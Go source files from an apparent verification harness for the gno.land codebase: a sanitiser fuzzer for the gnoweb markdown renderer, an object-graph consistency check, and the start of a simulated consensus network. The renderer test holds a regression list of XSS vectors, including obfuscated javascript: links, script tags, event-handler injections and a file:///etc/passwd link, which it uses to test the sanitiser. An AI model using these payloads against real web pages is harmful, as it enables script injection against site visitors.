	nt := st.urlAttrs > 0 || st.formAttrs > 0 || st.rawOmitted > 0 || h.canaryText(out, canaries) > 0
	c.Case(mode+"\x00"+src, nt)
	if len(fs) == 0 {
		return 0
	}
	seen := map[string]bool{}
	for _, f := range fs {
		key := f.Key
		if mode != modeRealm {
			key = mode + ":" + key
		}
		if seen[key] {
			continue
		}
		seen[key] = true
		nviol++
		// vf keeps witnesses for the first 3 violations per key only: make sure
		// those are the (slow) minimised ones — later occurrences wait for them.
		h.mu.Lock()
		h.keySeen[key]++
		nth := h.keySeen[key]
		gate := h.keyGate[key]
		if gate == nil {
			gate = make(chan struct{})
			h.keyGate[key] = gate
		}
		h.mu.Unlock()
		if nth > 3 {
			<-gate
		}
		w := map[string]any{"path": mode, "url": realmURLs[ui%len(h.urls)], "url_index": ui % len(h.urls), "kind": kind, "input": inputWitness(src), "offending_token": f.Token, "output": clip(string(out), 3000)}
		h.mu.Lock()
		doMin := nth <= 3 && h.minimised < 90 && len(src) <= 256<<10 // minimise the first occurrences of each key (bounded per run)
		if doMin {
			h.minimised++
		}
		h.mu.Unlock()
		if doMin {
			baseKey := f.Key
			min := minimize(src, func(s string) bool {
				o, _, p := h.render(mode, u, []byte(s))
				if p != nil {
					return false
				}
				ff, _ := scan(o, canaries, policy{docContext: mode == modeDoc})
				for _, x := range ff {
					if x.Key == baseKey {
						return true
					}
				}
				return false
			}, max(40, min(4000, (24<<20)/(len(src)+1))))
			mo, _, _ := h.render(mode, u, []byte(min))
			w["minimized_input"] = inputWitness(min)
			w["minimized_output"] = clip(string(mo), 3000)
			c.Violation(key, w, "%s path: %s | minimised input %q -> output %q", mode, f.Detail, clip(min, 300), clip(string(mo), 600))
		} else {
			c.Violation(key, w, "%s path: %s | token %s", mode, f.Detail, f.Token)
		}
		if nth <= 3 {
			h.mu.Lock()
			h.keyDone[key]++
			if h.keyDone[key] == 3 {
				close(gate)
			}
			h.mu.Unlock()
		}
	}
	return nviol
}

// canaryText counts canaries that survive in the output only as inert text.
func (h *harness) canaryText(out []byte, canaries []canary) int {
	if len(canaries) == 0 {
		return 0
	}
	lo := bytes.ToLower(out)
	n := 0
	if len(canaries[0].name) >= 9 && !bytes.Contains(lo, []byte(canaries[0].name[1:9])) {
		return 0
	}
	if len(canaries) > 2000 { // long documents: sample
		canaries = canaries[:2000]
	}
	for _, cn := range canaries {
		if bytes.Contains(lo, []byte(cn.name)) {
			n++
		}
	}
	return n
}

var trackedClasses = map[string]bool{
	"gno-columns": true, "gno-column": true, "gno-form": true, "gno-form_input": true, "gno-form_select": true, "gno-form_selectable": true, "gno-form_description": true,
	"gno-alert": true, "gno-foreign": true, "gno-foreign__label": true, "link-external": true, "link-internal": true, "link-tx": true, "link-user": true,
	"doc-example": true, "chroma-chroma": true, "footnotes": true, "footnote-ref": true, "gno-render-plaintext": true, "command": true,
}

func (h *harness) account(mode, src string, out []byte, st *scanStats, canaries []canary) {
	c := h.c
	for e, n := range st.elements {
		c.Count("elem:"+e, n)
	}
	c.Count("attrs_inspected", st.attrs)
	c.Count("url_attrs_inspected", st.urlAttrs)
	c.Count("url_attrs_empty(neutralised)", st.emptyURLs)
	c.Count("img_data_svg_allowed", st.dataImages)
	c.Count("form_control_attrs_inspected", st.formAttrs)
	c.Count("raw_html_omitted_markers", st.rawOmitted)
	c.Count("comments", st.comments)
	if st.styleAttrs > 0 {
		c.Count("note:style_attrs_from_document("+mode+")", st.styleAttrs)
	}
	ct := h.canaryText(out, canaries)
	np := min(len(canaries), 2000) // canaryText samples at most 2000 per document
	c.Count("canaries_planted", np)
	c.Count("canaries_surviving_as_text", ct)
	c.Count("canaries_dropped", np-ct)
	c.Count("input_bytes", len(src))
	c.Count("output_bytes", len(out))
	for cl := range trackedClasses {
		if n := bytes.Count(out, []byte(`class="`+cl)); n > 0 {
			c.Count("class:"+cl, n)
		}
	}
}

// fixed regression documents (always run): classic vectors per construct.
var fixedDocs = []string{
	"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](&#x6A;avascript:alert(1))", "[x](javascript&colon;alert(1))",
	"[x](javascript&#58;alert(1))", "[x](java&Tab;script:alert(1))", "[x](java&NewLine;script:alert(1))", "[x](&#1;javascript:alert(1))", "[x](<&#32;javascript:alert(1)>)",
	"[x](< javascript:alert(1)>)", "[x](<\tjavascript:alert(1)>)", "[x](javascript\\:alert(1))", "[x](\\javascript:alert(1))", "[x](data&colon;text/html,<script>alert(1)</script>)",
	"[x](vbscript&colon;msgbox(1))", "[x](&#102;ile:///etc/passwd)", "[a]: java&#115;cript:alert(1)\n\n[a]", "[a]: <&#106;avascript:alert(1)> \"t\"\n\n[x][a] ![y][a]",
	"![x](javascript:alert(1))", "![x](&#106;avascript:alert(1))", "![x](data:text/html,<script>alert(1)</script>)", "![x](&#100;ata:text/html,<script>alert(1)</script>)",
	"![x](data:image/svg+xml;base64,PHN2Zy8+)", "![x](data:image/png;base64,AAAA)", "![x](DATA:image/png;base64,AAAA)", "![x](Data:image/svg+xml;base64,PHN2Zy8+)", "![x](&#100;ata:image/png;base64,AAAA)",
	"<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<javascript&colon;alert(1)>", "<data:text/html,x>", "<a@b.c\"onx=1>",
	"![\" onerror=\"alert(1)](x)", "![x](y \"\\\" onerror=\\\"alert(1)\")", "[x](y '\" onmouseover=\"alert(1)')", "[x](https://e.com/\"onmouseover=\"alert(1))",
	"<script>alert(1)</script>", "a <img src=x onerror=alert(1)> b", "<svg onload=alert(1)>", "<div>\n<script>alert(1)</script>\n</div>", "<!-- x --><script>alert(1)</script>",
	"<gno-form>\n<gno-input name=\"a\" placeholder=\"&quot; onfocus=&quot;alert(1)\" value=\"&quot;><script>alert(1)</script>\" />\n</gno-form>",
	"<gno-form exec=\"F&quot; onload=&quot;alert(1)\" path=\"&quot;><script>1</script>\">\n<gno-textarea name=\"t\" value=\"</textarea><script>alert(1)</script>\" />\n<gno-select name=\"s\" value=\"</option></select><script>alert(1)</script>\" />\n</gno-form>",
	"<gno-form>\n<gno-input name=\"a\" type=\"image\" src=\"javascript:alert(1)\" onfocus=\"alert(1)\" />\n<gno-input name='r' type='radio' value='\"><svg onload=alert(1)>' description='<script>1</script>' />\n</gno-form>",
	"<gno-columns onclick=\"alert(1)\">\n<script>alert(1)</script>\n<gno-columns-sep onclick=\"alert(1)\">\n[x](&#106;avascript:alert(1))\n</gno-columns>",
	"> [!NOTE] <script>alert(1)</script> [x](javascript:alert(1))\n> <img src=x onerror=alert(1)>", "> [!script]- t\n> body",
	"\n<gno-foreign label=\"&quot; onclick=&quot;alert(1)\">\n<script>alert(1)</script>\n[x](&#106;avascript:alert(1)) <javascript:alert(1)>\n<gno-form>\n<gno-input name=\"a\" />\n</gno-form>\n</gno-foreign>\n",
	"\n<gno-foreign label='\"><script>alert(1)</script>'>\n</gno-foreign>\n<script>alert(2)</script>\n</gno-foreign>\n",
	"```html\"><script>alert(1)</script>\n<script>alert(1)</script>\n```", "```go onclick=alert(1)\nfunc main() {} // </pre><script>alert(1)</script>\n```", "    <script>alert(1)</script>",
	"@alice<script>alert(1)</script> g1jg8mtutu9khhfwc4nxmuhcpftf0pajdhfvsqf5", "# h {onclick=\"alert(1)\" style=\"x\" href=\"javascript:alert(1)\"}",
	"| a | b |\n|:--|--:|\n| <script>alert(1)</script> | [x](&#106;avascript:alert(1)) |", "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))", "- [x] <input onfocus=alert(1) autofocus>",
	"[![a](&#106;avascript:alert(1))](&#106;avascript:alert(2) \"&#34; onx=&#34;1\")",
}

func run(c *vf.Ctx) {
	rd, unsafeDefault := newRenderer()
	h := &harness{c: c, rd: rd, keySeen: map[string]int{}, keyGate: map[string]chan struct{}{}, keyDone: map[string]int{}}
	for _, s := range realmURLs {
		u, err := weburl.Parse(s)
		if err != nil {
			panic(fmt.Sprintf("weburl.Parse(%q): %v", s, err))
		}
		h.urls = append(h.urls, u)
	}
	c.Set("renderer_constructor", "gnoweb.NewHTMLRenderer(slog(discard), gnoweb.NewDefaultAppConfig().RenderConfig [+WithUnsafe iff cfg.UnsafeHTML, as NewRouter], nil).RenderRealm / .RenderDocumentation; page path: gnoweb.NewHTTPHandler{Renderer: same, ClientAdapter: stub}")
	c.Set("default_config_unsafe_html", unsafeDefault)
	c.Set("tokenizer", "golang.org/x/net/html")
	c.Assume("golang.org/x/net/html tokenises like a browser (HTML5 tokenizer); URL preprocessing follows the WHATWG URL parser (strip C0/space at the ends, drop tab/LF/CR)")
	c.Assume("data:image/svg+xml in <img src> is the only data: URL the default image validator explicitly allows (render_config.go)")

	seeds, err := loadGolden(vf.RepoRoot())
	if err != nil {
		c.Inconclusive("cannot read golden files: " + err.Error())
		return
	}
	c.Set("golden_seeds", len(seeds))
	c.Require("golden_seeds", int64(len(seeds)), 150)

	workers := 16

	// 1. fixed regression documents + every golden section verbatim, on both paths
	var fixed []string
	fixed = append(fixed, fixedDocs...)
	for _, s := range seeds {
		fixed = append(fixed, s.data)
	}
	c.Parallel(len(fixed), workers, 1_000_000, func(i int, _ *rand.Rand) {
		kind := "fixed"
		if i >= len(fixedDocs) {
			kind = "golden-verbatim"
		}
		h.evaluate(kind, modeRealm, i, fixed[i], nil)
		h.evaluate(kind, modeDoc, i, fixed[i], nil)
	})
	c.Logf("fixed+golden verbatim done: %d docs", len(fixed))

	// 2. grammar-generated documents
	nGen := c.N(3600, 210000)
	var fmu sync.Mutex
	feats := map[string]int{}
	merge := func(g *gen) {
		fmu.Lock()
		for k, v := range g.feats {
			feats[k] += v
		}
		fmu.Unlock()
	}
	var samples sync.Once
	c.Parallel(nGen, workers, 2_000_000, func(i int, rng *rand.Rand) {
		g := newGen(rng)
		g.docMode = i%4 == 3
		doc := g.doc()
		merge(g)
		h.evaluate("generated", modeRealm, i, doc, g.canaries)
		if i%4 == 3 || i%4 == 1 {
			h.evaluate("generated", modeDoc, i, doc, g.canaries)
		}
		if i == 7 {
			samples.Do(func() { c.Sample(map[string]any{"kind": "generated", "input": inputWitness(clip(doc, 1500))}) })
		}
	})
	c.Logf("generated done: %d docs", nGen)

	// 3. golden mutants
	nMut := c.N(1400, 80000)
	c.Parallel(nMut, workers, 3_000_000, func(i int, rng *rand.Rand) {
		g := newGen(rng)
		s := seeds[i%len(seeds)]
		doc := mutate(g, seeds, s.data)
		merge(g)
		h.evaluate("golden-mutant", modeRealm, i, doc, g.canaries)
		if i%3 == 0 {
			h.evaluate("golden-mutant", modeDoc, i, doc, g.canaries)
		}
		if i == 11 {
			c.Sample(map[string]any{"kind": "golden-mutant", "seed": s.name, "input": inputWitness(clip(doc, 1500))})
		}
	})
	c.Logf("golden mutants done: %d docs", nMut)

	// 4. very long documents (a few beyond the 1 MiB plain-text fallback limit)
	nLong := c.N(48, 600)
	c.Parallel(nLong, workers, 4_000_000, func(i int, rng *rand.Rand) {
		g := newGen(rng)
		target := 20_000 + rng.IntN(180_000)
		if i%24 == 5 {
			target = (1 << 20) + 4096 // plain-text fallback path
		}
		doc := g.longDoc(target)
		merge(g)
		h.evaluate("long", modeRealm, i, doc, g.canaries)
		if i%6 == 0 {
			h.evaluate("long", modeDoc, i, doc, g.canaries)
		}
	})
	c.Logf("long done: %d docs", nLong)

	// 5. a sample through the real HTTP handler: whole served page scanned
	runPages(h, seeds, c.N(300, 6000), workers)

	fmu.Lock()
	fk := make([]string, 0, len(feats))
	for k := range feats {
		fk = append(fk, k)
	}
	sort.Strings(fk)
	for _, k := range fk {
		c.Count("planted:"+k, feats[k])
	}
	fmu.Unlock()
	c.Sample(map[string]any{"kind": "fixed", "input": fixedDocs[2]})
	c.Sample(map[string]any{"kind": "fixed", "input": fixedDocs[43]})

	// minimum coverage: every extension and every judged site class was really exercised
	q := func(quick, thorough int64) int64 {
		if c.Quick() {
			return quick
		}
		return thorough
	}
	c.RequireCounter("rendered:realm", q(5000, 290000))
	c.RequireCounter("rendered:doc", q(1500, 90000))
	c.RequireCounter("url_attrs_inspected", q(5000, 250000))
	c.RequireCounter("url_attrs_empty(neutralised)", q(500, 25000))
	c.RequireCounter("form_control_attrs_inspected", q(3000, 150000))
	c.RequireCounter("raw_html_omitted_markers", q(2000, 100000))
	c.RequireCounter("canaries_surviving_as_text", q(1000, 50000))
	c.RequireCounter("img_data_svg_allowed", q(5, 200))
	for _, cl := range []string{"gno-columns", "gno-form", "gno-form_input", "gno-form_select", "gno-form_selectable", "gno-alert", "gno-foreign", "gno-foreign__label",
		"link-external", "link-internal", "link-tx", "link-user", "doc-example", "chroma-chroma", "footnotes", "command"} {
		c.RequireCounter("class:"+cl, q(20, 1000))
	}
	c.RequireCounter("class:gno-render-plaintext", 1)
	for _, e := range []string{"a", "img", "form", "input", "select", "option", "textarea", "label", "details", "summary", "svg", "use", "table", "pre", "code", "blockquote", "li", "del", "sup"} {
		c.RequireCounter("elem:"+e, q(20, 1000))
	}
	for _, f := range []string{"url:hostile", "url:entity", "url:insert", "url:prefix", "url:case", "url:backslash", "url:lookalike", "attr-injection", "canary", "inline-html", "html-block", "form", "columns", "foreign", "alert", "image", "link:reference", "autolink", "mention", "golden-mutant"} {
		c.Require("planted:"+f, int64(feats[f]), q(20, 1000))
	}
	c.Require("planted:long", int64(feats["long"]), q(40, 500))
	c.RequireCounter("pages_served", q(250, 5000))
	if n := c.Counter("render_panics"); n > 0 {
		c.Logf("note: %d render panics (not part of the property; counted only)", n)
		h.mu.Lock()
		c.Set("note:render_panics", h.panics)
		h.mu.Unlock()
	}
}

// replay re-renders one recorded witness.
func replay(c *vf.Ctx, raw json.RawMessage) {
	var w struct {
		Path     string `json:"path"`
		URLIndex int    `json:"url_index"`
		Input    any    `json:"input"`
		MinInput any    `json:"minimized_input"`
	}
	if err := json.Unmarshal(raw, &w); err != nil {
		panic(err)
	}
	rd, _ := newRenderer()
	h := &harness{c: c, rd: rd, keySeen: map[string]int{}, keyGate: map[string]chan struct{}{}, keyDone: map[string]int{}}
	for _, s := range realmURLs {
		u, _ := weburl.Parse(s)
		h.urls = append(h.urls, u)
	}
	dec := func(v any) (string, bool) {
		switch x := v.(type) {
		case string:
			return x, true
		case map[string]any:
			if hx, ok := x["hex"].(string); ok {
				b := make([]byte, len(hx)/2)
				fmt.Sscanf(hx, "%x", &b)
				return string(b), true
			}
		}
		return "", false
	}
	for _, v := range []any{w.MinInput, w.Input} {
		if s, ok := dec(v); ok {
			mode := w.Path
			if mode == modePage || mode == "" {
				mode = modeRealm
			}
			h.keySeen, h.keyGate, h.keyDone = map[string]int{}, map[string]chan struct{}{}, map[string]int{}
			// replay without canary knowledge: structural oracle only
			h.evaluate("replay", mode, w.URLIndex, s, nil)
		}
	}
}
