package c52

import (
	"bytes"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
)

type seed struct {
	name string
	data string
}

var reTxtarMarker = regexp.MustCompile(`(?m)^-- (.+) --$`)

// parseTxtar is a minimal txtar reader (comment block + "-- name --" sections).
func parseTxtar(b []byte) (comment string, files map[string]string, order []string) {
	files = map[string]string{}
	s := string(b)
	locs := reTxtarMarker.FindAllStringSubmatchIndex(s, -1)
	if len(locs) == 0 {
		return s, files, nil
	}
	comment = s[:locs[0][0]]
	for i, l := range locs {
		name := s[l[2]:l[3]]
		start := l[1]
		if start < len(s) && s[start] == '\n' {
			start++
		}
		end := len(s)
		if i+1 < len(locs) {
			end = locs[i+1][0]
		}
		files[name] = s[start:end]
		order = append(order, name)
	}
	return
}

// loadGolden returns every golden input (and expected output, which is raw
// HTML and therefore an excellent passthrough seed) under markdown/golden.
func loadGolden(repo string) ([]seed, error) {
	root := filepath.Join(repo, "gno.land/pkg/gnoweb/markdown/golden")
	var paths []string
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() && (strings.HasSuffix(p, ".txtar") || strings.HasSuffix(p, ".txt")) {
			paths = append(paths, p)
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	sort.Strings(paths)
	var seeds []seed
	for _, p := range paths {
		b, err := os.ReadFile(p)
		if err != nil {
			return nil, err
		}
		rel, _ := filepath.Rel(root, p)
		comment, files, order := parseTxtar(b)
		for _, n := range order {
			seeds = append(seeds, seed{rel + "#" + n, files[n]})
		}
		// sanitize fixtures: substitute the RAW attacker input into the realm's
		// CONTEXT template (i.e. what a realm that forgot to sanitise would emit)
		if in, ok := files["input.md"]; ok {
			in = strings.TrimSuffix(in, "\n")
			if strings.Contains(comment, "INPUT_ESCAPED") {
				if u, err := strconv.Unquote(`"` + strings.ReplaceAll(in, `"`, `\"`) + `"`); err == nil {
					in = u
					seeds = append(seeds, seed{rel + "#input-unescaped", in})
				}
			}
			for _, l := range strings.Split(comment, "\n") {
				if t, ok := strings.CutPrefix(strings.TrimSpace(l), "// CONTEXT:"); ok {
					t = strings.ReplaceAll(strings.TrimSpace(t), `\n`, "\n")
					seeds = append(seeds, seed{rel + "#context-raw", strings.ReplaceAll(t, "%s", in)})
				}
			}
		}
	}
	return seeds, nil
}

var reQuoted = regexp.MustCompile(`"[^"\n]*"`)
var reParen = regexp.MustCompile(`\]\([^)\n]*\)`)
var reScheme = regexp.MustCompile(`https?://`)

// mutate applies 1..4 token / byte mutations to a golden seed.
func mutate(g *gen, seeds []seed, s string) string {
	r := g.r
	b := []byte(s)
	for k, n := 0, 1+r.IntN(4); k < n; k++ {
		pos := func() int {
			if len(b) == 0 {
				return 0
			}
			return r.IntN(len(b) + 1)
		}
		switch r.IntN(12) {
		case 0: // byte flip
			if len(b) > 0 {
				b[r.IntN(len(b))] = pick(r, []byte("<>\"'&\\`\n \t\x00/=:;#![]()|*_-"))
			}
		case 1: // byte insert
			p := pos()
			b = append(b[:p:p], append([]byte{pick(r, []byte("<>\"'&\\`\n \t\x00/=:;#![]()|*_-\r"))}, b[p:]...)...)
		case 2: // delete a small span
			if len(b) > 1 {
				p := r.IntN(len(b))
				e := min(len(b), p+1+r.IntN(4))
				b = append(b[:p:p], b[e:]...)
			}
		case 3: // splice a dictionary payload / canary
			p := pos()
			var ins string
			switch r.IntN(4) {
			case 0:
				ins = g.inst(pick(r, rawHTML), "mut/splice")
			case 1:
				ins = g.inst(pick(r, attrInjections), "mut/splice")
			case 2:
				ins = g.hostileURL()
			default:
				ins = g.canaryTag("mut/splice")
			}
			b = append(b[:p:p], append([]byte(ins), b[p:]...)...)
		case 4: // replace a quoted attribute value
			if locs := reQuoted.FindAllIndex(b, -1); len(locs) > 0 {
				l := pick(r, locs)
				v := g.attrText("mut/quoted-value")
				if r.IntN(3) > 0 {
					v = strings.ReplaceAll(v, `"`, "&quot;")
				}
				b = append(b[:l[0]+1:l[0]+1], append([]byte(v), b[l[1]-1:]...)...)
			}
		case 5: // replace a link destination
			if locs := reParen.FindAllIndex(b, -1); len(locs) > 0 {
				l := pick(r, locs)
				b = append(b[:l[0]+2:l[0]+2], append([]byte(g.dest(g.hostileURL())+g.title()), b[l[1]-1:]...)...)
			}
		case 6: // replace an http(s):// scheme
			if locs := reScheme.FindAllIndex(b, -1); len(locs) > 0 {
				l := pick(r, locs)
				b = append(b[:l[0]:l[0]], append([]byte(g.hostileURL()+"//"), b[l[1]:]...)...)
			}
		case 7: // line ops
			lines := bytes.Split(b, []byte("\n"))
			if len(lines) > 1 {
				i, j := r.IntN(len(lines)), r.IntN(len(lines))
				switch r.IntN(4) {
				case 0:
					lines[i], lines[j] = lines[j], lines[i]
				case 1:
					lines = append(lines[:i:i], lines[i+1:]...)
				case 2:
					lines = append(lines[:i+1:i+1], append([][]byte{lines[i]}, lines[i+1:]...)...)
				default:
					lines = append(lines[:i:i], append([][]byte{{}}, lines[i:]...)...)
				}
				b = bytes.Join(lines, []byte("\n"))
			}
		case 8: // case change of a span
			if len(b) > 0 {
				p := r.IntN(len(b))
				e := min(len(b), p+1+r.IntN(12))
				copy(b[p:e], bytes.ToUpper(b[p:e]))
			}
		case 9: // crossover with another seed
			o := []byte(pick(r, seeds).data)
			if len(o) > 0 {
				p, q := pos(), r.IntN(len(o))
				b = append(b[:p:p], o[q:]...)
			}
		case 10: // indent / quote every line
			pre := pick(r, []string{"> ", "  ", "    ", "- ", "\t", "> [!NOTE] "})
			b = []byte(pre + strings.ReplaceAll(string(b), "\n", "\n"+pre))
		case 11: // wrap in an extension
			w := pick(r, [][2]string{{"<gno-columns>\n", "\n</gno-columns>\n"}, {"\n<gno-foreign>\n", "\n</gno-foreign>\n"}, {"<gno-foreign label=\"" + strings.ReplaceAll(g.attrText("mut/foreign-label"), `"`, "&quot;") + "\">\n", "\n</gno-foreign>\n"}, {"<gno-form>\n", "\n</gno-form>\n"}, {"<div>\n", "\n</div>\n"}, {"```\n", "\n```\n"}})
			b = []byte(w[0] + string(b) + w[1])
		}
	}
	g.feat("golden-mutant")
	return string(b)
}

var _ = rand.New
