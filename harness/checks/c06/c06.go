// Package c06: the persisted object graph stays consistent after every transaction.
//
// Monitor: after every committed block of generated histories (one tx per block
// in half of them, so "after every transaction" is observed literally), an
// independent auditor decodes every oid: record from the committed DB and
// checks the five clauses of the property with its own reference walker.
package c06

import (
	"fmt"
	"math/rand/v2"

	"verifharness/internal/audit"
	"verifharness/internal/chainsim"
	"verifharness/internal/hist"
	"verifharness/internal/monitors"
	"verifharness/internal/vf"
)

func init() {
	vf.Register(&vf.Check{
		ID:    "C06",
		Level: "exploration",
		Rule: "case = committed state after one block of a generated history (attach / detach / share / re-attach / delete ops over pointers, slices, maps, closures, interfaces; cross-realm passing; failing txs; deployments); " +
			"each case decodes the full persisted object graph and checks refcount = in-degree, owner rule, no dangling refs, hash = hash(bytes) (+ Merkle entry for escaped), reachability; " +
			"non-trivial = the block changed at least one oid: record; distinct by (history seed, height)",
		Run: run,
	})
}

type mon struct {
	c     *vf.Ctx
	seed  uint64
	prev  *audit.KV
	h     *hist.History
	first bool
	// slotSeq: enumerated slot-move history; witnesses carry the block only
	slotSeq bool
}

func (m *mon) OnGenesis(ch *chainsim.Chain) { m.check(ch, nil, nil) }
func (m *mon) OnBlock(ch *chainsim.Chain, bt *chainsim.BlockTrace, specs []hist.TxSpec) {
	m.check(ch, bt, specs)
}

func (m *mon) check(ch *chainsim.Chain, bt *chainsim.BlockTrace, specs []hist.TxSpec) {
	st, _, err := audit.Snapshot(ch.DB, 0)
	if err != nil {
		panic(err)
	}
	changed := 0
	if m.prev != nil {
		changed = len(audit.DiffKV(m.prev, st.Base).All())
	}
	m.prev = st.Base
	g := monitors.DecodeGraph(st.Base)
	issues, stats := monitors.CheckGraph(g, monitors.EscapedEntries(st.Main), nil)
	m.c.Case(fmt.Sprintf("%d/%d", m.seed, st.Height), changed > 0 || bt == nil)
	m.c.Count("graphs_checked", 1)
	m.c.Count("objects_checked", stats["objects_checked"])
	m.c.Count("references_followed", stats["refs"])
	m.c.Count("escaped_objects_seen", stats["escaped"])
	m.c.Count("oid_records_changed", changed)
	m.c.Count("objects_on_leaked_cycles", stats["objects_on_leaked_cycles"])
	m.c.Count("stale_child_hash_in_parent_reference(observed,not a clause)", stats["stale_child_hash_in_parent_reference"])
	if bt != nil {
		for i, t := range bt.Txs {
			if t.OK && m.slotSeq {
				if specs[i].Label != "slot-reset" {
					m.c.Count("slot_sequences_ok", 1)
					m.c.Distinct(specs[i].Label)
				}
			} else if t.OK {
				m.c.Count("tx_ok:"+specs[i].Label, 1)
			} else {
				m.c.Count("tx_failed", 1)
			}
		}
	}
	if m.first {
		m.first = false
		kinds := map[string]int{}
		for k, v := range stats {
			if len(k) > 5 && k[:5] == "kind:" {
				kinds[k[5:]] = v
			}
		}
		m.c.Set("object_kinds_in_first_graph", kinds)
	}
	seen := map[string]bool{}
	for _, is := range issues {
		if seen[is.Clause] {
			continue
		}
		seen[is.Clause] = true
		var txs any
		if bt != nil {
			txs = specs
		}
		m.c.Violation("graph:"+is.Clause, map[string]any{"history_seed": m.seed, "height": st.Height, "oid": is.OID, "block_txs": txs, "history": m.h},
			"history %d height %d object %s: %s (%d issues of all clauses in this graph)", m.seed, st.Height, is.OID, is.Msg, len(issues))
	}
}

func run(c *vf.Ctx) {
	n := c.N(5, 24)
	blocks := c.N(10, 40)
	c.Parallel(n, 6, 300, func(i int, rng *rand.Rand) {
		seed := uint64(c.Seed)*1000 + uint64(i)
		maxTx := 4
		if i%2 == 0 {
			maxTx = 1 // one tx per block: the graph is audited after every transaction
		}
		nb := blocks
		if maxTx == 1 {
			nb = blocks * 3
		}
		h := hist.GenP(rng, seed, nb, maxTx, hist.Profile{FailBoost: i%3 == 2, MoveBoost: i%3 == 1})
		m := &mon{c: c, seed: seed, h: h, first: i == 0}
		ch, err := hist.Play(h, hist.PlayOpts{Monitors: []hist.Monitor{m}, RestartAt: map[int]bool{len(h.Blocks) / 2: true}})
		if ch != nil {
			defer ch.Close()
		}
		if err != nil {
			panic(err)
		}
		if i == 0 {
			c.Sample(map[string]any{"history_seed": seed, "first_blocks": h.Blocks[:4]})
		}
	})
	// Enumerated multi-finalization messages: every sequence of 2 (quick) or 2 and 3
	// (thorough) object moves between two slots inside ONE message, from every start state.
	var hs []*hist.History
	hs = append(hs, hist.SlotSeqHistories(2, 6)...)
	hs = append(hs, hist.SlotAdoptHistories(3)...)
	if !c.Quick() {
		hs = append(hs, hist.SlotSeqHistories(3, 12)...)
	}
	c.Parallel(len(hs), 6, 300, func(i int, rng *rand.Rand) {
		h := hs[i]
		m := &mon{c: c, seed: h.Seed, h: &hist.History{Seed: h.Seed}, slotSeq: true}
		ch, err := hist.Play(h, hist.PlayOpts{Monitors: []hist.Monitor{m}})
		if ch != nil {
			defer ch.Close()
		}
		if err != nil {
			panic(err)
		}
	})
	c.RequireCounter("slot_sequences_ok", int64(4*81*9/10))
	c.Assume("the auditor decodes with the production amino codec; reference enumeration is the auditor's own reflection walk over decoded values")
	c.Assume("exemptions taken from the code's own rules: package values are roots (RefCount 1, no owner); references from another realm to objects of an immutable (/p/, stdlib) package are not counted; objects kept alive by a leaked reference cycle are not reported as unreachable")
	c.RequireCounter("graphs_checked", 10)
	c.RequireCounter("escaped_objects_seen", 1)
	c.RequireCounter("oid_records_changed", 50)
}
