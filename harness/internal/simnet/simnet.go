// Package simnet is a deterministic, single-threaded consensus network: N real
// ConsensusState machines (real BlockExecutor, block store, mempool, kvstore
// app, MockPV signers) that are NOT started; the harness is the network and the
// clock. After every step it reads what a node would gossip (its proposal,
// block parts and votes) into a message pool, and a seeded scheduler decides
// which message reaches which node when — with delay, reordering, duplication,
// loss and partitions. Byzantine validators (< 1/3 of the power) are pure
// signers driven by the harness: equivocating proposals and votes, different
// messages for different audiences, or silence.
package simnet

import (
	"fmt"
	"math/rand/v2"
	"sync"
	"sort"
	"time"

	abcicli "github.com/gnolang/gno/tm2/pkg/bft/abci/client"
	"github.com/gnolang/gno/tm2/pkg/bft/abci/example/kvstore"
	cfg "github.com/gnolang/gno/tm2/pkg/bft/config"
	cs "github.com/gnolang/gno/tm2/pkg/bft/consensus"
	cstypes "github.com/gnolang/gno/tm2/pkg/bft/consensus/types"
	mempl "github.com/gnolang/gno/tm2/pkg/bft/mempool"
	sm "github.com/gnolang/gno/tm2/pkg/bft/state"
	"github.com/gnolang/gno/tm2/pkg/bft/store"
	"github.com/gnolang/gno/tm2/pkg/bft/types"
	"github.com/gnolang/gno/tm2/pkg/crypto/ed25519"
	"github.com/gnolang/gno/tm2/pkg/db/memdb"
	"github.com/gnolang/gno/tm2/pkg/events"
	"github.com/gnolang/gno/tm2/pkg/log"
	p2pTypes "github.com/gnolang/gno/tm2/pkg/p2p/types"
)

const ChainID = "simnet"

// Node is one honest validator.
type Node struct {
	Index int
	CS    *cs.ConsensusState
	BS    *store.BlockStore
	BE    *sm.BlockExecutor
	seen  map[string]bool
	tried map[string]string // message key -> node HRS at the last (rejected) delivery attempt
	collected map[*types.Vote]bool
	lastProp  *types.Proposal
	lastParts int
	// Delivered votes (including own), in delivery order, for the lock-rule monitor.
	Votes []*types.Vote
	voteSeen map[string]bool
	pacedHeight int64
}

// Msg is one gossipable message.
type Msg struct {
	Key    string
	Height int64
	Round  int
	Kind   byte // 'P' proposal, 'B' block part, 'V' vote
	M      cs.ConsensusMessage
	Vote   *types.Vote
	// Audience restricts which nodes may receive it (nil = anyone); used for
	// byzantine messages meant for one side only.
	Audience map[int]bool
	FromByz  bool
	// PartsHash: for block parts, the hash of the part set they belong to.
	PartsHash []byte
	// Relayed: some honest node took the message in, so honest gossip forwards it to everybody.
	Relayed bool
}

// Net is the whole network.
type Net struct {
	N        int
	Powers   []int64
	PVs      []types.PrivValidator
	Byz      map[int]bool
	Nodes    []*Node // nil at byzantine indices
	Pool     []*Msg
	ByHeight map[int64][]*Msg
	props    map[string][]*Msg // proposals by "h/r"
	have     map[string]*Msg
	Rng      *rand.Rand
	Steps    int
	Timeouts int
	Paced    time.Duration // wall-clock time slept to keep the clock ahead of block time (see pace)
	GenTime  time.Time
	ValAddr  [][]byte
	byzDone  map[string]bool
	claimed  map[string]bool // "dst/h/r/type/blockhash": a peer told dst it has +2/3 for that block
	served   map[int64]bool
	commitCache map[int64]*types.Commit
	// stats
	MaxRound      int
	Duplicates    int
	Maj23Claims   int
	RelayAll      bool // honest gossip relays every message some honest node holds, whatever its intended audience
	Rejected      int
	ByzProposals  int
	ByzVotes      int
}

// New builds a network. byz lists validator indices driven by the harness.
func New(rng *rand.Rand, powers []int64, byz []int) *Net {
